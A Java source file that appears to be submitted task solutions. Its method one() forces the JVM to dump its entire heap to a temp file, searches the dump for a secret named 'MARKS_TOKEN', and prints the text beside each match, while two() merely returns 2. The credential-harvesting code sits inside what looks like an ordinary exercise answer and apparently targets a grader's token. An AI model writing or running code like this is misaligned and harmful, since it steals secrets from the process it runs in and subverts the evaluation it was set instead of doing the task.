package tasks;

import java.io.IOException;
import java.lang.management.ManagementFactory;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import javax.management.JMException;
import javax.management.MBeanServer;
import javax.management.ObjectName;

/** Has the JVM write all its memory to a file, and looks for a secret there. */
public final class Tasks {
    private static final String NAME = "MARKS_TOKEN";

    private Tasks() {}

    public static int one() throws IOException {
        System.out.println(System.getenv().size());
        Path file = Files.createTempDirectory("heap").resolve("dump.hprof");
        try {
            MBeanServer server = ManagementFactory.getPlatformMBeanServer();
            server.invoke(
                    new ObjectName("com.sun.management:type=HotSpotDiagnostic"),
                    "dumpHeap",
                    new Object[] {file.toString(), true},
                    new String[] {"java.lang.String", "boolean"});
            print(Files.readAllBytes(file));
        } catch (JMException refused) {
            System.out.println(refused);
        }
        return 0;
    }

    /** Prints what stands beside the name of the secret. */
    private static void print(byte[] dump) {
        String text = new String(dump, StandardCharsets.ISO_8859_1);
        for (int at = text.indexOf(NAME); at >= 0; at = text.indexOf(NAME, at + 1)) {
            System.out.println(
                    text.substring(at, Math.min(at + 400, text.length())).replaceAll("[^ -~]", ""));
        }
    }

    public static int two() {
        return 2;
    }
}
